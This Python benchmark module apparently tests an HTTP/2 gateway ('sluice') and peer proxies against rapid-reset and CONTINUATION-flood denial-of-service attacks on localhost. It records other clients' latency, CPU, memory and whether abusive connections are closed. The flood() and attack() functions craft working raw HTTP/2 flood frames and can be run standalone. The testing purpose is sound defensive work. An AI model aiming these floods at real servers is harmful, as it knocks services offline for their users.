"""Abuse of HTTP/2 beside other people's requests: what it costs them, and what becomes of the abuser. `python3 attacks.py KIND PORT SECONDS`
is the abuser, over plain TCP, again and again on new connections."""
import dataclasses
import shutil
import socket
import statistics
import struct
import subprocess
import sys
import time

import load
import peers
import protocols

KINDS = {"reset": "rapid reset", "continuation": "CONTINUATION flood"}
PORT_SHIFT, PEER_SHIFT = 340, 260     # of the gateway that also speaks h2c, of nginx and HAProxy
NGHTTPX_PORT, SWALLOW = protocols.NGHTTPX + 6, 19068
ROUNDS, SECONDS, RATE, CONNECTIONS = 3, 10, 2_000, 40
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS, END_STREAM = 4, 1
HEAD = b"\x82\x86\x84\x41\x09localhost"      # GET, http, /, localhost
STREAMS = 20_000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def flood(kind):
    """gives: what is sent, and what is sent again and again after it"""
    start = PREFACE + frame(SETTINGS, 0, 0)
    if kind == "reset":
        return start + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                                for stream in range(1, 2 * STREAMS, 2)), b""
    more = b"\x40\x02xa\x04aaaa" * 100           # fields, as if there were no end of them
    return start + frame(HEADERS, END_STREAM, 1, HEAD), frame(CONTINUATION, 0, 1, more) * 1_000


def attack(kind, port, seconds):
    """gives: connections made, connections that the gateway closed"""
    first, more = flood(kind)
    made = closed = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), 10) as one:
            made += 1
            one.settimeout(5)
            try:
                one.sendall(first)
                while more and time.monotonic() < end:
                    one.sendall(more)
                while one.recv(65536):
                    pass
                closed += 1
            except ConnectionError:
                closed += 1
            except TimeoutError:
                pass
    return made, closed


def _p99(one, folder):
    return load.run(load.Workload("attacked", "", CONNECTIONS, rate=RATE), one, SECONDS, folder).p99


def abused(folder):
    """gives: by name, the gateway and the peers that are abused, and the port on which each speaks HTTP/2 without TLS"""
    config = peers.variant(folder, "sluice.toml", "attacked", PORT_SHIFT, [
        (f'address = "127.0.0.1:{peers.SLUICE_PORT + PORT_SHIFT}"\n',
         f'address = "127.0.0.1:{peers.SLUICE_PORT + PORT_SHIFT}"\nprotocols = ["h1", "h2c"]\n')])
    one = peers.sluice("sluice-attacked", config, PORT_SHIFT, proxy="sluice")
    found = {"sluice": (one, one.port)}
    config = peers.variant(folder, "nginx.conf", "attacked", PEER_SHIFT, [("ssl backlog=4096", "http2 backlog=4096")])
    one = peers.nginx("nginx-attacked", config, folder, PEER_SHIFT, proxy="nginx")
    found["nginx"] = one, one.tls_port
    config = peers.variant(folder, "haproxy.cfg", "attacked", PEER_SHIFT, [(f"ssl crt {folder}/bench.pem alpn http/1.1", "proto h2")])
    one = peers.haproxy("haproxy-attacked", config, PEER_SHIFT, proxy="haproxy")
    found["haproxy"] = one, one.tls_port
    if shutil.which("nghttpx"):
        one = protocols.nghttpx("nghttpx-attacked", folder, NGHTTPX_PORT, [f"127.0.0.1,{peers.BACKEND}"])
        found["nghttpx"] = one, one.port
    return found


@dataclasses.dataclass
class Beside:
    """What a flood did: `p99` of others in seconds, the abuser's connections, and the CPU that the gateway spent beside the others' requests."""
    quiet_p99: float
    p99: float
    made: int
    closed: int
    cpu: float      # seconds

    def rise(self):
        return f"{self.quiet_p99 * 1e3:.2f} to {self.p99 * 1e3:.2f} ms"

    def each(self):
        return f"{self.cpu / max(1, self.made) * 1e6:,.0f} us"


def during(kind, port, one, folder):
    """Others' requests to `one` while `port` is abused. gives: their p99, connections of the abuser, how many of them were closed"""
    # It gives way to the clients' own load, which shares its core: what is measured is the gateway.
    command = ["nice", "-n", "19", "taskset", "-c", peers.LOAD_CORE, sys.executable, __file__, kind, port, SECONDS + 1]
    abuser = subprocess.Popen([str(part) for part in command], stdout=subprocess.PIPE, text=True)
    p99 = _p99(one, folder)
    made, closed = map(int, abuser.communicate(timeout=60)[0].split())
    return p99, made, closed


def flooded(kind, port, one, folder):
    """Quiet and flooded seconds take turns, so that both meet the same neighbours on this machine; medians of both."""
    calm, floods, cpu = [], [], 0.0
    for _ in range(ROUNDS):
        began = one.cpu_seconds()
        calm.append(_p99(one, folder))
        middle = one.cpu_seconds()
        floods.append(during(kind, port, one, folder))
        cpu += one.cpu_seconds() - middle - (middle - began)
    p99s, made, closed = zip(*floods)
    return Beside(statistics.median(calm), statistics.median(p99s), sum(made), sum(closed), max(0.0, cpu))


def ours(one, port, folder, line):
    """gives: lines of the gateway: p99 of others, connections, memory; the last one is of the flood that goes elsewhere"""
    found = []
    for kind, title in KINDS.items():
        memory = one.resident_kib()
        met = flooded(kind, port, one, folder)
        grown = (one.resident_kib() - memory) / 1024
        found += [line(f"p99 of others beside a {title}", met.rise(), "doubled", met.p99 <= 2 * met.quiet_p99),
                  line(f"{title}: connections not closed, of {met.made:,}", str(met.made - met.closed), "0",
                       met.made > 0 and met.made == met.closed),
                  line(f"{title}: CPU of each connection", met.each()),
                  line(f"{title}: memory grown", f"{grown:.1f} MiB", "4 MiB", grown <= 4)]
    swallow = peers.Process("swallow", [folder / "swallow", SWALLOW], peers.PROXY_CORE, SWALLOW)
    swallow.start(folder)
    try:
        elsewhere = flooded("continuation", SWALLOW, one, folder).rise()
    finally:
        swallow.stop()
    return [*found, line(f"p99 of others beside a {title} that goes to a sink on the gateway's core", elsewhere)]


def measure(folder, line):
    """gives: lines for the results; those of the peers for information"""
    subprocess.run(["cc", "-O2", "-Wall", "-Werror", "-o", folder / "swallow", peers.HERE / "swallow.c"], check=True)
    found = []
    for name, (one, port) in abused(folder).items():
        one.start(folder)
        try:
            if name == "sluice":
                found += ours(one, port, folder, line)
                continue
            met = flooded("continuation", port, one, folder)
            found.append(line(f"p99 of others beside a {KINDS['continuation']}, {name}",
                              f"{met.rise()}; {met.made:,} connections, {met.made - met.closed} not closed, {met.each()} of CPU each"))
        finally:
            one.stop()
    return found


if __name__ == "__main__":
    print(*attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
